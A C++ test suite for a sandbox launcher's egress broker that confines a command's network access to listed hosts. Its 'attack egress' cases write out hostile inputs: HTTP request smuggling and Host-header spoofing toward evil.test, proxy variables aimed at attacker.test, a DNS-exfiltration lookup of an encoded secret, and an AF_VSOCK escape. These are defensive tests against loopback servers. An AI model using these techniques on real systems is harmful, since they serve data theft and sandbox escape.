// network.outbound.hosts under the real launcher (docs/egress.md): the
// command in a network namespace of its own, the broker its one way out.
// Each case runs a real HTTP client (Python's urllib and raw sockets) under
// the plan against an HTTP server this test runs on the host's loopback,
// and asserts what got through and what was refused, with its control.
//
// Safety: every connection goes to 127.0.0.1 servers this test owns. The
// "no route" checks connect UDP sockets, which send nothing, and a TCP
// connect to TEST-NET-1 (192.0.2.1) only inside the namespace, where there
// is no route for its SYN to take; their controls outside use UDP only.
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <atomic>
#include <mutex>
#include <thread>

#include "fixtures.h"
#include "harness.h"

using namespace aasm::ktest;

namespace {

// An HTTP/1.0 server on 127.0.0.1 (a port the kernel chose): each request
// gets "hello PATH"; the request heads it saw are kept.
class HttpServer {
 public:
  HttpServer() {
    thread_ = std::thread([this] {
      while (!stop_) {
        if (!listener_.readable(50)) continue;
        const int fd = ::accept4(listener_.fd(), nullptr, nullptr, SOCK_CLOEXEC);
        if (fd < 0) continue;
        std::string head;
        char buffer[4096];
        while (head.find("\r\n\r\n") == std::string::npos) {
          pollfd p{fd, POLLIN, 0};
          if (::poll(&p, 1, 3000) != 1) break;
          const ssize_t n = ::read(fd, buffer, sizeof buffer);
          if (n <= 0) break;
          head.append(buffer, size_t(n));
        }
        const size_t sp = head.find(' '), sp2 = head.find(' ', sp + 1);
        const std::string path = sp2 == std::string::npos ? "?" : head.substr(sp + 1, sp2 - sp - 1);
        const std::string body = "hello " + path;
        const std::string reply = "HTTP/1.0 200 OK\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
        (void)!::write(fd, reply.data(), reply.size());
        ::close(fd);
        std::lock_guard lock(mutex_);
        heads_.push_back(head);
      }
    });
  }
  ~HttpServer() {
    stop_ = true;
    thread_.join();
  }
  uint16_t port() const { return local_port(listener_); }
  std::vector<std::string> heads() const {
    std::lock_guard lock(mutex_);
    return heads_;
  }

 private:
  Socket listener_ = [] {
    Socket s = bound_loopback(SOCK_STREAM);
    REQUIRE(::listen(s.fd(), 16) == 0);
    return s;
  }();
  std::atomic<bool> stop_{false};
  mutable std::mutex mutex_;
  std::vector<std::string> heads_;
  std::thread thread_;
};

// The client: each argument is one attempt, printed as one line.
//   get URL           urllib through the proxy variables (NO_PROXY left out, so
//                     that localhost goes through the broker too)
//   tunnel HOST:PORT  CONNECT to the broker, then a GET through the tunnel
//   tcp HOST:PORT     a direct TCP connect, past the proxy variables
//   udp HOST:PORT     a UDP connect (sends nothing): is there a route?
//   icmp HOST:0       the same with a raw ICMP socket
//   raw HOST:PORT|B   the bytes B (\r\n written as such) to the broker as they are
//   resolve NAME:0    the command's own name lookup
//   family N          a stream socket of address family N, made and closed
//   socks HOST:PORT   SOCKS5 CONNECT to the broker (a name, or an address as
//                     such), then a GET through it; socks-bind and socks-auth:
//                     a BIND request, a greeting that offers only a password
constexpr const char* kClient = R"PY(
import os, socket, sys, urllib.request, urllib.error
for name in ("no_proxy", "NO_PROXY"):
    os.environ.pop(name, None)
def attempt(kind, target):
    try:
        if kind == "get":
            return "200 " + urllib.request.urlopen(target, timeout=10).read().decode()
        if kind == "family":  # family N: a stream socket of address family N, created and closed
            socket.socket(int(target), socket.SOCK_STREAM).close()
            return "created"
        host, port = target.split("|", 1)[0].rsplit(":", 1)
        if kind == "raw":  # raw HOST:PORT|BYTES: BYTES sent to the broker as they are, its answer's first line
            target, data = target.split("|", 1)
            s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
            s.sendall(data.replace("\\r\\n", "\r\n").encode())
            return "raw " + s.recv(4096).split(b"\r\n")[0].decode()
        if kind == "resolve":
            return "resolved " + socket.getaddrinfo(target.rsplit(":", 1)[0], None)[0][4][0]
        if kind.startswith("socks"):
            s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
            s.sendall(b"\x05\x01\x02" if kind == "socks-auth" else b"\x05\x01\x00")
            chosen = s.recv(2)
            if chosen != b"\x05\x00":
                return "socks method " + chosen.hex()
            if host.startswith("["):
                address = b"\x04" + socket.inet_pton(socket.AF_INET6, host[1:-1])
            elif host.replace(".", "").isdigit():
                address = b"\x01" + socket.inet_aton(host)
            else:
                address = b"\x03" + bytes([len(host)]) + host.encode()
            command = b"\x02" if kind == "socks-bind" else b"\x01"
            s.sendall(b"\x05" + command + b"\x00" + address + int(port).to_bytes(2, "big"))
            answer = s.recv(10)
            if answer[1] != 0:
                return "socks reply %d" % answer[1]
            s.sendall(b"GET /socks HTTP/1.0\r\n\r\n")
            return "socks " + s.recv(4096).split(b"\r\n\r\n", 1)[-1].decode()
        if kind == "tunnel":
            s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
            s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
            status = s.recv(4096).split(b"\r\n")[0].decode()
            if " 200 " not in status + " ":
                return status
            s.sendall(b"GET /tunnelled HTTP/1.0\r\n\r\n")
            return "tunnel " + s.recv(4096).split(b"\r\n\r\n", 1)[-1].decode()
        if kind == "icmp":
            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
        s.settimeout(10)
        s.connect((host, int(port)))
        return "connected"
    except urllib.error.HTTPError as e:
        return "HTTP %d" % e.code
    except OSError as e:
        reason = getattr(e, "reason", e)
        return "errno " + str(getattr(reason, "errno", None) or e.errno)
for arg in sys.argv[1:]:
    kind, target = arg.split(" ", 1)
    print(arg, "->", attempt(kind, target), flush=True)
)PY";

std::string spec(const std::string& hosts) {
  return "  filesystem:\n"
         "    read: {allow: [\"/usr\", \"/etc\", \"${CWD}\"]}\n"
         "    write: {allow: [\"${CWD}\"]}\n"
         "    execute: {allow: [\"/usr\"]}\n" +
         (hosts.empty() ? std::string() : "  network:\n    outbound:\n      hosts: " + hosts + "\n");
}

Run client(const std::string& plan, const TempDir& dir, const std::vector<std::string>& attempts, uid_t uid = 0) {
  write_file(dir / "client.py", kClient);
  std::vector<std::string> argv;
  run_as(uid, argv);
  argv.insert(argv.end(), {binary("AASM_LAUNCH"), plan, "--", "/usr/bin/python3", dir / "client.py"});
  argv.insert(argv.end(), attempts.begin(), attempts.end());
  return run(argv, dir.path());
}

std::string line(const std::string& attempt, const std::string& outcome) { return attempt + " -> " + outcome + "\n"; }

}  // namespace

TEST_CASE("egress: an allowed name goes through the broker; another name, an address, another port are refused") {
  HttpServer server;
  const std::string port = std::to_string(server.port());
  TempDir dir;
  const std::string plan = compile_spec(dir, "hosts", spec("{allow: [\"localhost:" + port + "\"], deny: [\"*.denied.test\"]}"));
  const std::string allowed = "get http://localhost:" + port + "/a";
  const std::string other_name = "get http://other.test:" + port + "/";
  const std::string denied = "get http://x.denied.test:" + port + "/";
  const std::string address = "get http://127.0.0.1:" + port + "/";
  const std::string other_port = "get http://localhost:" + std::to_string(server.port() ^ 1) + "/";
  const std::string tunnel = "tunnel localhost:" + port;
  const Run r = client(plan, dir, {allowed, other_name, denied, address, other_port, tunnel});
  INFO("stderr: ", r.err);
  CHECK(r.exit_code == 0);
  CHECK(r.out == line(allowed, "200 hello /a") + line(other_name, "HTTP 403") + line(denied, "HTTP 403") +
                     line(address, "HTTP 403") + line(other_port, "HTTP 403") + line(tunnel, "tunnel hello /tunnelled"));
  // The origin saw each request once, in origin form, Host set by the broker.
  const std::vector<std::string> heads = server.heads();
  REQUIRE(heads.size() == 2);
  CHECK(heads[0].rfind("GET /a HTTP/1.1\r\n", 0) == 0);
  CHECK(contains(heads[0], "\r\nHost: localhost:" + port + "\r\n"));
  CHECK(contains(heads[0], "\r\nConnection: close\r\n"));
  CHECK(heads[1].rfind("GET /tunnelled HTTP/1.0\r\n", 0) == 0);
  // Each refusal is a denial joined to its policy line, the allowed host an event.
  CHECK(contains(r.err, "broker refused other.test:" + port + " -> HTTP 403"));
  CHECK(contains(r.err, "edit: add other.test:" + port + " to network.outbound.hosts.allow"));
  CHECK(contains(r.err, "broker refused x.denied.test:" + port));
  CHECK(contains(r.err, "remove *.denied.test from network.outbound.hosts.deny"));
  CHECK(contains(r.err, "broker refused 127.0.0.1:" + port));
  CHECK(contains(r.err, "network_hosts (brokered): allowed localhost:" + port + ", 2 connections"));
}

TEST_CASE("egress: SOCKS5 to an allowed name goes through; another name, an address, BIND and a password-only client are refused") {
  HttpServer server;
  const std::string port = std::to_string(server.port());
  TempDir dir;
  const std::string plan = compile_spec(dir, "hosts", spec("[\"localhost:" + port + "\"]"));
  const std::string allowed = "socks localhost:" + port;  // the control: the same request, a listed name
  const std::string other_name = "socks other.test:" + port;
  const std::string address = "socks 127.0.0.1:" + port;
  const std::string v6_address = "socks [::1]:" + port;
  const std::string bind = "socks-bind localhost:" + port;
  const std::string password = "socks-auth localhost:" + port;
  const Run r = client(plan, dir, {allowed, other_name, address, v6_address, bind, password});
  INFO("stderr: ", r.err);
  CHECK(r.exit_code == 0);
  CHECK(r.out == line(allowed, "socks hello /socks") + line(other_name, "socks reply 2") + line(address, "socks reply 2") +
                     line(v6_address, "socks reply 2") + line(bind, "socks reply 7") + line(password, "socks method 05ff"));
  const std::vector<std::string> heads = server.heads();
  REQUIRE(heads.size() == 1);
  CHECK(heads[0].rfind("GET /socks HTTP/1.0\r\n", 0) == 0);
  CHECK(contains(r.err, "broker refused other.test:" + port + " -> HTTP 403, SOCKS5 reply 2"));
  CHECK(contains(r.err, "broker refused 127.0.0.1:" + port));
  CHECK(contains(r.err, "broker refused [::1]:" + port));
  CHECK(contains(r.err, "network_hosts (brokered): allowed localhost:" + port + ", 1 connection"));
}

TEST_CASE("egress: past the proxy variables there is no route out; without the broker's plan the same connects go through") {
  HttpServer server;
  const std::string host_service = "tcp 127.0.0.1:" + std::to_string(server.port());
  const std::string udp_out = "udp 192.0.2.1:53";
  TempDir dir;
  const std::string plan = compile_spec(dir, "hosts", spec("[\"localhost\"]"));
  // The host's loopback is not the command's: nothing listens there. No
  // address outside it has a route.
  const std::string tcp_out = "tcp 192.0.2.1:443";
  // A raw socket: refused at socket() (no CAP_NET_RAW), or without a route.
  const std::string raw_out = "icmp 192.0.2.1:0";
  const Run confined = client(plan, dir, {host_service, udp_out, tcp_out, raw_out});
  INFO("stderr: ", confined.err);
  CHECK(confined.exit_code == 0);
  const std::string routes = line(host_service, "errno " + std::to_string(ECONNREFUSED)) +
                             line(udp_out, "errno " + std::to_string(ENETUNREACH)) +
                             line(tcp_out, "errno " + std::to_string(ENETUNREACH));
  CHECK((confined.out == routes + line(raw_out, "errno " + std::to_string(EPERM)) ||
         confined.out == routes + line(raw_out, "errno " + std::to_string(ENETUNREACH))));
  CHECK(server.heads().empty());
  // The control: the same client under the same filesystem, no hosts.
  const std::string open = compile_spec(dir, "open", spec(""));
  const Run control = client(open, dir, {host_service, udp_out});
  INFO("control stderr: ", control.err);
  CHECK(control.out == line(host_service, "connected") + line(udp_out, "connected"));
}

TEST_CASE("egress: as uid 65534 the namespace is made in a user namespace, and the broker serves it the same") {
  HttpServer server;
  const std::string port = std::to_string(server.port());
  TempDir dir;
  REQUIRE(::chmod(dir.path().c_str(), 0777) == 0);
  const std::string plan = compile_spec(dir, "hosts", spec("[\"localhost:" + port + "\"]"));
  const std::string allowed = "get http://localhost:" + port + "/nobody";
  const std::string refused = "get http://other.test:" + port + "/";
  const std::string host_service = "tcp 127.0.0.1:" + port;
  const Run r = client(plan, dir, {allowed, refused, host_service}, 65534);
  INFO("stderr: ", r.err);
  CHECK(r.exit_code == 0);
  CHECK(r.out == line(allowed, "200 hello /nobody") + line(refused, "HTTP 403") +
                     line(host_service, "errno " + std::to_string(ECONNREFUSED)));
}

TEST_CASE("egress: the command's proxy variables point at the broker, whatever the launcher's own said") {
  TempDir dir;
  const std::string plan = compile_spec(dir, "hosts", spec("[\"localhost\"]"));
  const Run r = run({"/usr/bin/env", "HTTPS_PROXY=http://attacker.test:1", "http_proxy=http://attacker.test:1",
                     binary("AASM_LAUNCH"), plan, "--", "/usr/bin/env"},
                    dir.path());
  INFO("stderr: ", r.err);
  CHECK(r.exit_code == 0);
  for (const char* name : {"HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"})
    CHECK(contains(r.out, std::string("\n") + name + "=http://127.0.0.1:3128\n"));
  CHECK(!contains(r.out, "attacker.test"));
}

TEST_CASE("attack egress: CONNECT to an address, a second request to another host, a Host header that names another") {
  HttpServer server;
  const std::string port = std::to_string(server.port());
  TempDir dir;
  const std::string plan = compile_spec(dir, "hosts", spec("[\"localhost:" + port + "\"]"));
  const std::string connect_address = "tunnel 127.0.0.1:" + port;
  // Two requests on one connection, the second to a host the plan does not
  // list: the broker checked the first and connects only there, so the
  // second goes to the same origin, never to evil.test.
  const std::string smuggle = "raw localhost:" + port + "|GET http://localhost:" + port +
                              "/first HTTP/1.1\\r\\nHost: localhost:" + port +
                              "\\r\\n\\r\\nGET http://evil.test/second HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n";
  // A Host header naming another host than the URL: replaced by the URL's.
  const std::string host_header = "raw localhost:" + port + "|GET http://localhost:" + port +
                                  "/host HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n";
  const std::string https_plain = "raw localhost:" + port + "|GET https://localhost:" + port + "/ HTTP/1.1\\r\\n\\r\\n";
  const Run r = client(plan, dir, {connect_address, smuggle, host_header, https_plain});
  INFO("stderr: ", r.err);
  CHECK(r.exit_code == 0);
  CHECK(r.out == line(connect_address, "HTTP/1.1 403 Forbidden") + line(smuggle, "raw HTTP/1.0 200 OK") +
                     line(host_header, "raw HTTP/1.0 200 OK") + line(https_plain, "raw HTTP/1.1 400 Bad Request"));
  const std::vector<std::string> heads = server.heads();
  REQUIRE(heads.size() == 2);
  // What the origin got: the first request in origin form, and whatever
  // followed it on the connection, which is still this origin's.
  CHECK(heads[0].rfind("GET /first HTTP/1.1\r\n", 0) == 0);
  CHECK(heads[1].rfind("GET /host HTTP/1.1\r\n", 0) == 0);
  CHECK(contains(heads[1], "\r\nHost: localhost:" + port + "\r\n"));
  CHECK(!contains(heads[1], "evil.test"));
  CHECK(!contains(r.err, "evil.test"));  // never a request of its own: not even refused
  CHECK(contains(r.err, "broker refused 127.0.0.1:" + port));
}

TEST_CASE("attack egress: name lookups from inside reach no resolver; the names the broker refuses are never looked up") {
  TempDir dir;
  const std::string plan = compile_spec(dir, "hosts", spec("[\"localhost\"]"));
  // The command's resolver is whatever /etc/resolv.conf names, on an
  // address with no route, or the host's loopback, which is not its own.
  const std::string exfil = "resolve c2VjcmV0.exfil.invalid:0";
  const std::string local = "resolve localhost:0";  // the control: /etc/hosts still answers
  const std::string refused = "tunnel c2VjcmV0.exfil.invalid:443";
  const Run r = client(plan, dir, {exfil, local, refused});
  INFO("stderr: ", r.err);
  CHECK(r.exit_code == 0);
  CHECK(contains(r.out, line(local, "resolved 127.0.0.1")));
  CHECK(!contains(r.out, exfil + " -> resolved"));
  CHECK(contains(r.out, line(refused, "HTTP/1.1 403 Forbidden")));
  // Refused before any lookup: the reason is the list, not the resolver.
  CHECK(contains(r.err, "c2vjcmv0.exfil.invalid:443 is not in network.outbound.hosts"));  // names are matched lowercase
}

TEST_CASE("attack egress: the launcher killed mid-run takes the command with it; it never gets the host's network") {
  HttpServer server;
  const std::string port = std::to_string(server.port());
  TempDir dir;
  const std::string plan = compile_spec(dir, "hosts", spec("[\"localhost:" + port + "\"]"));
  const std::string pid_file = dir / "command.pid", log = dir / "log";
  write_file(dir / "loop.py",
             "import os, socket, time, urllib.request\n"
             "for k in ('no_proxy', 'NO_PROXY'): os.environ.pop(k, None)\n"
             "open('" + pid_file + "', 'w').write(str(os.getpid()))\n"
             "while True:\n"
             "    try: r = 'broker ' + urllib.request.urlopen('http://localhost:" + port + "/tick', timeout=2).read().decode()\n"
             "    except Exception as e: r = 'broker failed'\n"
             "    try: socket.create_connection(('127.0.0.1', " + port + "), timeout=1); r += ' direct connected'\n"
             "    except OSError: r += ' direct refused'\n"
             "    open('" + log + "', 'a').write(r + '\\n')\n"
             "    time.sleep(0.05)\n");
  const pid_t launcher = ::fork();
  REQUIRE(launcher >= 0);
  if (launcher == 0) {
    ::chdir(dir.path().c_str());
    const std::string launch = binary("AASM_LAUNCH");
    ::execl(launch.c_str(), launch.c_str(), plan.c_str(), "--", "/usr/bin/python3", (dir / "loop.py").c_str(), nullptr);
    ::_exit(127);
  }
  ReapOnExit reap(launcher);
  pid_t command = 0;
  for (int i = 0; i < 100 && !command; ++i) {
    sleep_ms(50);
    if (exists(pid_file) && !read_file(pid_file).empty()) command = std::stoi(read_file(pid_file));
  }
  REQUIRE(command > 0);
  for (int i = 0; i < 100 && (!exists(log) || !contains(read_file(log), "broker hello")); ++i) sleep_ms(50);
  REQUIRE(contains(read_file(log), "broker hello /tick direct refused"));  // the control: the broker serves
  REQUIRE(::kill(launcher, SIGKILL) == 0);
  int status = 0;
  REQUIRE(::waitpid(launcher, &status, 0) == launcher);
  reap.release();
  // Gone, or dead and waiting to be reaped by whoever it was reparented to.
  const auto ended = [command] {
    const std::optional<std::string> stat = read_proc_file("/proc/" + std::to_string(command) + "/stat");
    const size_t paren = stat ? stat->rfind(')') : std::string::npos;
    return !stat || paren == std::string::npos || stat->compare(paren + 1, 3, " Z ") == 0;
  };
  bool gone = false;
  for (int i = 0; i < 100 && !gone; ++i) {
    gone = ended();
    if (!gone) sleep_ms(50);
  }
  CHECK_MESSAGE(gone, "the command outlived its killed launcher by 5 s");
  if (!gone) ::kill(command, SIGKILL);
  CHECK(!contains(read_file(log), "direct connected"));
}

TEST_CASE("egress: as uid 65534 on a host that refuses a user namespace, the launch is refused naming network_hosts") {
  TempDir dir;
  REQUIRE(::chmod(dir.path().c_str(), 0777) == 0);
  const std::string plan = compile_spec(dir, "hosts", spec("[\"localhost\"]"));
  const std::string marker = dir / "ran";
  std::vector<std::string> argv;
  run_as(65534, argv);
  argv.insert(argv.end(), {fault_tool(), "clone_newuser=EPERM", binary("AASM_LAUNCH"), plan, "--", "/usr/bin/touch", marker});
  const Run refused = run(argv, dir.path());
  INFO("stderr: ", refused.err);
  CHECK(refused.exit_code == 125);
  CHECK(contains(refused.err, "network_hosts: without root (CAP_SYS_ADMIN) the command's own network namespace needs a "
                              "user namespace, and this host refuses aasm-launch one (Operation not permitted"));
  CHECK_FALSE(exists(marker));
  // The control: the same launch without the fault runs the command.
  std::vector<std::string> control;
  run_as(65534, control);
  control.insert(control.end(), {binary("AASM_LAUNCH"), plan, "--", "/usr/bin/touch", marker});
  const Run ran = run(control, dir.path());
  INFO("control stderr: ", ran.err);
  CHECK(ran.exit_code == 0);
  CHECK(exists(marker));
}

TEST_CASE("egress: aasmc suggest proposes a refused host from the receipt, and the edited policy lets it through") {
  HttpServer server;
  const std::string port = std::to_string(server.port());
  TempDir dir;
  const std::string plan = compile_spec(dir, "hosts", spec("{allow: [\"localhost:" + std::to_string(server.port() ^ 1) + "\"]}"));
  const std::string wanted = "get http://localhost:" + port + "/suggested";
  write_file(dir / "client.py", kClient);
  const Run refused = run({binary("AASM_LAUNCH"), "--receipt", dir / "receipt.json", plan, "--", "/usr/bin/python3",
                           dir / "client.py", wanted},
                          dir.path());
  INFO("stderr: ", refused.err);
  CHECK(refused.out == line(wanted, "HTTP 403"));
  const Run suggested = run({binary("AASMC"), "suggest", dir / "receipt.json", dir / "hosts.yaml"}, dir.path());
  INFO("suggest: ", suggested.out, suggested.err);
  CHECK(contains(suggested.out, "+      hosts: {allow: [\"localhost:" + std::to_string(server.port() ^ 1) + "\", \"localhost:" + port + "\"]}"));
  // Applied by hand (patch is not a test dependency), the edited policy lets it through.
  const std::string edited = compile_spec(dir, "edited", spec("{allow: [\"localhost:" + std::to_string(server.port() ^ 1) +
                                                                "\", \"localhost:" + port + "\"]}"));
  const Run allowed = client(edited, dir, {wanted});
  INFO("stderr: ", allowed.err);
  CHECK(allowed.out == line(wanted, "200 hello /suggested"));
}

TEST_CASE("attack egress: address families that reach past a network namespace (AF_VSOCK) are refused at socket()") {
  TempDir dir;
  const std::string plan = compile_spec(dir, "hosts", spec("[\"localhost\"]"));
  const std::string vsock = "family 40";  // AF_VSOCK: the hypervisor's sockets, in no network namespace
  const std::string inet = "family 2";    // AF_INET: the broker's way, the control
  const Run r = client(plan, dir, {vsock, inet});
  INFO("stderr: ", r.err);
  CHECK(r.out == line(vsock, "errno " + std::to_string(EACCES)) + line(inet, "created"));
  // The control: without hosts the same socket is made (or the host has no vsock: not EACCES either).
  const Run open = client(compile_spec(dir, "open", spec("")), dir, {vsock});
  CHECK(!contains(open.out, "errno " + std::to_string(EACCES)));
}
